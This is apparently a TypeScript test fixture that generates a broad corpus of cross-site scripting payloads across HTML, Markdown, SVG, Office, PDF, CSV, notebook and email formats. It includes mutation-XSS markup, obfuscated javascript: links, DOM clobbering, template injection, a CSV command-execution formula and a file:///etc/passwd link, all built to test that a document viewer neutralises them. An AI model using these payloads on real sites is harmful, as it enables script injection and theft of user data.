/** Documents that would run a program, send a request or take over the page, were their text taken for markup of the page. */
import { strToU8 } from "fflate"
import { docx, xlsx } from "../engine/documents.ts"
import { text, write } from "../engine/pdf/writePdf.ts"

export interface Payload {
  /** Name of the file. */
  readonly name: string
  readonly bytes: Uint8Array
}

/** Runs where a program runs: the tests look for `__ran` in each frame. */
const run = "(window.__ran=top.__ran=1,alert(1))"

/** A host that does not exist; a request to it is a fault of its own. */
const away = "http://elsewhere.invalid"

const encoded = (address: string): string => Array.from(address, (sign) => `&#${sign.codePointAt(0)};`).join("")

const image = `<img src="${away}/x.png" onerror="${run}">`

const vector =
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script>` +
  `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}">${image}<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe></body></foreignObject>` +
  `<a xlink:href="javascript:${run}"><text>press</text></a><use href="${away}/x.svg#a"/>` +
  `<animate attributeName="href" values="javascript:${run}" begin="0s"/><set attributeName="onmouseover" to="${run}"/><image href="${away}/y.png"/></svg>`

const links: ReadonlyArray<string> = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript&colon;${run}`,
  `java&Tab;script&colon;${run}`,
  encoded(`javascript:${run}`),
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
  `data:image/svg+xml,${encodeURIComponent(vector)}`,
  `blob:${away}/1`,
  `file:///etc/passwd`,
  `//elsewhere.invalid/x`
]

/** Markup that one reader closes where another does not. */
const mutations: ReadonlyArray<string> = [
  `<noscript><p title="</noscript>${image.replaceAll('"', "&quot;")}">text</p></noscript>`,
  `<noscript><p title='</noscript><img src=x onerror=${run}>'>text</p></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  `<select><template><style><img src=x onerror=${run}></style></template></select>`,
  `<table><tr><td><textarea><img title="</textarea><img src onerror=${run}>"></td></tr></table>`,
  `<title><a title="</title><img src=x onerror=${run}>"></a></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>--!><?xml-stylesheet href="javascript:${run}"?>`
]

const handlers = [
  `<body onload="${run}" onpageshow="${run}">`,
  image,
  `<video autoplay onerror="${run}"><source src="${away}/v" onerror="${run}"></video>`,
  `<audio src="${away}/a" onerror="${run}" autoplay></audio>`,
  `<details open ontoggle="${run}"><summary>more</summary>text</details>`,
  `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select>`,
  `<marquee onstart="${run}">text</marquee>`,
  `<p style="animation: x 1s" onanimationstart="${run}" onmouseover="${run}" onclick="${run}">Point here</p>`,
  `<a href="#x" onclick="${run}" onfocus="${run}">press</a>`
]

const html = (body: string, head = "<title>A page</title>"): Uint8Array =>
  strToU8(
    `<!doctype html><html lang="en"><head>${head}</head><body><main><h1>A page</h1><p>Some ordinary words stand before it, so that the page has a main part that is worth reading.</p>${body}<p>Some ordinary words stand after it.</p></main></body></html>`
  )

const markdown = (body: string, before = ""): Uint8Array =>
  strToU8(`${before}# A document\n\nOrdinary words before it.\n\n${body}\n\nOrdinary words after it.\n`)

const escaped = (content: string): string =>
  content.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;")

const relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

const word = (): Uint8Array =>
  docx(
    [image, vector, ...links.slice(0, 2), ...mutations]
      .map((content) => `<w:p><w:r><w:t xml:space="preserve">${escaped(content)}</w:t></w:r></w:p>`)
      .concat(
        `<w:p><w:hyperlink xmlns:r="${relations}" r:id="rId1"><w:r><w:t>press this</w:t></w:r></w:hyperlink></w:p>`,
        `<w:p><w:r><w:instrText>HYPERLINK "javascript:${escaped(run)}"</w:instrText></w:r></w:p>`
      )
      .join(""),
    {
      "word/_rels/document.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relations}/hyperlink" Target="javascript:${escaped(run)}" TargetMode="External"/></Relationships>`
    }
  )

const sheet = (): Uint8Array => {
  const cells = [image, vector, `=HYPERLINK("javascript:${run}","press")`, ...links.slice(0, 3), ...mutations]
  const rows = cells.map(
    (content, at) =>
      `<row r="${at + 1}"><c r="A${at + 1}" t="inlineStr"><is><t>${at}</t></is></c><c r="B${at + 1}" t="inlineStr"><is><t>${escaped(content).replaceAll("\u0001", "")}</t></is></c></row>`
  )
  return xlsx(rows.join(""))
}

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`

const csv = (): Uint8Array =>
  strToU8(
    [["name", image], [`=cmd|' /C calc'!A0`, vector], ...links.map((link) => [`<a href="${link}">press</a>`, link])]
      .map((row) => row.map(quoted).join(","))
      .join("\r\n")
  )

const pdf = (): Uint8Array =>
  write({
    info: { Title: image, Author: `</script><script>${run}</script>`, Subject: `javascript:${run}` },
    pages: [
      {
        marks: [
          text(72, 90, `<script>${run}</script>`, { size: 20 }),
          text(72, 130, image),
          text(72, 160, `[press](javascript:${run})`),
          text(72, 190, "Press this link"),
          { type: "link", x0: 72, y0: 180, x1: 160, y1: 192, uri: `javascript:${run}` }
        ]
      }
    ]
  })

const notebook = (): Uint8Array =>
  strToU8(
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: { language_info: { name: `js" onmouseover="${run}` } },
      cells: [
        { cell_type: "markdown", metadata: {}, source: [`# ${image}\n`, `[press](javascript:${run})`] },
        {
          cell_type: "code",
          metadata: {},
          execution_count: 1,
          source: [`print("<script>${run}</script>")`],
          outputs: [
            {
              output_type: "display_data",
              metadata: {},
              data: { "text/html": [`<script>${run}</script>${image}`], "image/svg+xml": [vector] }
            }
          ]
        }
      ]
    })
  )

const mail = (): Uint8Array =>
  strToU8(
    [
      'From: "<img src=x onerror=alert(1)>" <someone@example.org>',
      "To: other@example.org",
      `Subject: <script>${run}</script>`,
      "MIME-Version: 1.0",
      'Content-Type: text/html; charset="utf-8"',
      "",
      `<html><body><p>Hello</p><script>${run}</script>${image}${vector}<a href="javascript:${run}">press</a></body></html>`
    ].join("\r\n")
  )

const names =
  "app location document cookie __proto__ constructor getElementById body head children details-panel welcome"

export const payloads: ReadonlyArray<Payload> = [
  {
    name: "script.html",
    bytes: html(
      `<script>${run}</script><script src="${away}/x.js"></script><script type="module">${run}</script><scr<script>ipt>${run}</scr</script>ipt>`
    )
  },
  { name: "handlers.html", bytes: html(handlers.join("")) },
  { name: "handlers.md", bytes: markdown(handlers.join("\n\n")) },
  { name: "links.html", bytes: html(links.map((link) => `<p><a href="${link}">press</a></p>`).join("")) },
  {
    name: "links.md",
    bytes: markdown(
      links
        .map(
          (link, at) => `[press](<${link}> "title") <${link}> ![picture](${link}) [by name][${at}]\n\n[${at}]: ${link}`
        )
        .join("\n\n")
    )
  },
  {
    name: "rawLinks.md",
    bytes: markdown(links.map((link) => `<a href="${link}">press</a> <img src="${link}">`).join("\n\n"))
  },
  { name: "vector.html", bytes: html(vector) },
  { name: "vector.md", bytes: markdown(`${vector}\n\n![vector](data:image/svg+xml,${encodeURIComponent(vector)})`) },
  {
    name: "refresh.html",
    bytes: html(
      `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
      `<title>A page</title><meta http-equiv="refresh" content="0;url=${away}"><base href="${away}/"><link rel="stylesheet" href="${away}/x.css"><link rel="preload" as="script" href="${away}/x.js"><link rel="icon" href="${away}/x.ico">`
    )
  },
  {
    name: "refresh.md",
    bytes: markdown(
      `<meta http-equiv="refresh" content="0;url=${away}">\n\n<base href="${away}/">\n\n<link rel="stylesheet" href="${away}/x.css">`
    )
  },
  {
    name: "frames.html",
    bytes: html(
      `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="data:text/html,<script>${run}</script>"></object><embed src="${away}/x.swf"><frameset><frame src="javascript:${run}"></frameset>`
    )
  },
  {
    name: "frames.md",
    bytes: markdown(
      `<iframe src="javascript:${run}"></iframe>\n\n<iframe srcdoc="<script>${run}</script>"></iframe>\n\n<object data="data:text/html,<script>${run}</script>"></object>\n\n<embed src="${away}/x.swf">`
    )
  },
  {
    name: "styles.html",
    bytes: html(
      `<style>@import "${away}/x.css"; body { background: url(${away}/y.png); display: none } * { position: fixed }</style><p style="background:url(${away}/z.png);width:expression(${run});position:fixed;inset:0">text</p>`
    )
  },
  {
    name: "styles.md",
    bytes: markdown(
      `<style>@import "${away}/x.css"; main { display: none }</style>\n\n<p style="background:url(${away}/z.png);position:fixed;inset:0">text</p>\n\n<table><tr><td style="background:url(${away}/t.png)" class="veil" id="app">cell</td></tr></table>`
    )
  },
  {
    name: "forms.html",
    bytes: html(
      `<form action="javascript:${run}"><input type="image" src="${away}/x.png"><button formaction="javascript:${run}">press</button><input name="password" type="password" autofocus onfocus="${run}"></form>`
    )
  },
  {
    name: "templates.md",
    bytes: markdown(
      `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %> #{${run}} {%raw%}{{7*7}}{%endraw%} [[${run}]] @(${run}) <div v-html="'${image.replaceAll('"', "")}'" ng-app ng-init="${run}" x-data x-init="${run}" onclick></div>`
    )
  },
  {
    name: "clobbering.html",
    bytes: html(
      names
        .split(" ")
        .map(
          (name) =>
            `<form id="${name}" name="${name}"><input id="${name}" name="${name}"></form><a id="${name}" name="${name}" href="javascript:${run}">${name}</a>`
        )
        .join("")
    )
  },
  {
    name: "clobbering.md",
    bytes: markdown(
      names
        .split(" ")
        .map(
          (name) =>
            `<form id="${name}" name="${name}"><input name="attributes"></form>\n\n## ${name}\n\n[^${name}]\n\n[^${name}]: ${name}`
        )
        .join("\n\n")
    )
  },
  { name: "mutations.html", bytes: html(mutations.join("\n")) },
  { name: "mutations.md", bytes: markdown(mutations.join("\n\n")) },
  {
    name: "quotes.md",
    bytes: markdown(
      [
        `[press](https://example.org "x\\" onmouseover=\\"${run}")`,
        `<https://example.org/"onmouseover="${run}>`,
        `![x" onerror="${run}](x.png)`,
        `\`\`\`js" onmouseover="${run}" x="\n${image}\n\`\`\``,
        `| a | <img src=x onerror=${run}> |\n|---|---|\n| \`</td><script>${run}</script>\` | </table><script>${run}</script> |`,
        `<table><tr><td colspan="1000000000" rowspan="-1" align='x" onclick="${run}'>${image}</td></tr></table>`,
        `$\\href{javascript:${run}}{press}$ $$\\text{<script>${run}</script>}$$`
      ].join("\n\n")
    )
  },
  {
    name: "signs.md",
    bytes: markdown(
      [
        "\u202escript\u202c reversed, \u2066isolated\u2069, \u200binvisible\u200d, a\u2028line\u2029s",
        `\uff1cscript\uff1e${run}\uff1c/script\uff1e \u02c2img src=x onerror=${run}\u02c3`,
        `<scr\u0000ipt>${run}</scr\u0000ipt> <\u0000img src=x onerror=${run}>`,
        `<img src=x onerror\u3000=${run}> <img/src=x\u000conerror=${run}> <ſcript>${run}</ſcript> <\u212ascript>`,
        `\ud800 lone \udc00 \ufffe \u{e0041}\u{e007f} \u0007\u001b[31mred`
      ].join("\n\n")
    )
  },
  {
    name: "front.md",
    bytes: markdown(
      image,
      `---\ntitle: '${image.replaceAll("'", "")}'\n"<script>${run}</script>": x\n__proto__: y\nconstructor: z\nurl: "javascript:${run}"\n---\n`
    )
  },
  {
    name: "title.html",
    bytes: html(
      "<p>text</p>",
      `<title>&lt;/script&gt;&lt;script&gt;${run}&lt;/script&gt;</title><meta property="og:title" content='${image}'><meta property="og:image" content="javascript:${run}"><meta name="__proto__" content="x"><link rel="canonical" href="javascript:${run}">`
    )
  },
  { name: "table.csv", bytes: csv() },
  { name: "text.txt", bytes: strToU8(`<script>${run}</script>\n\n${image}\n\n${vector}\n\n${links.join("\n")}`) },
  { name: "word.docx", bytes: word() },
  { name: "sheet.xlsx", bytes: sheet() },
  { name: "page.pdf", bytes: pdf() },
  { name: "notebook.ipynb", bytes: notebook() },
  { name: "mail.eml", bytes: mail() },
  { name: `"><img src=x onerror=${run}>.md`, bytes: markdown("The name is the payload.") },
  { name: `<script>${run.replaceAll("/", "")}<script>.txt`, bytes: strToU8("The name is the payload.") },
  { name: "javascript:alert(1).html", bytes: html("<p>The name is the payload.</p>") },
  { name: "\u202elmth.gnp\u202c {{7*7}} ${1} %2e%2e%2f'`.md", bytes: markdown("The name is the payload.") }
]

/** Characters that no XML document holds. */
// oxlint-disable-next-line eslint/no-control-regex -- as XML defines them
const notXml = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|\p{Surrogate}/gu

/** The payload as the page takes it: the lines of a format that it does not take stand in a document of Word. */
export const forPage = ({ bytes, name }: Payload): Payload => {
  if (/\.(?:html|csv|docx|xlsx|pdf)$/u.test(name)) return { name, bytes }
  const lines = new TextDecoder().decode(bytes).replaceAll(notXml, "").split("\n")
  const paragraphs = lines.map((line) => `<w:p><w:r><w:t xml:space="preserve">${escaped(line)}</w:t></w:r></w:p>`)
  return { name: `${name}.docx`, bytes: docx(paragraphs.join("")) }
}
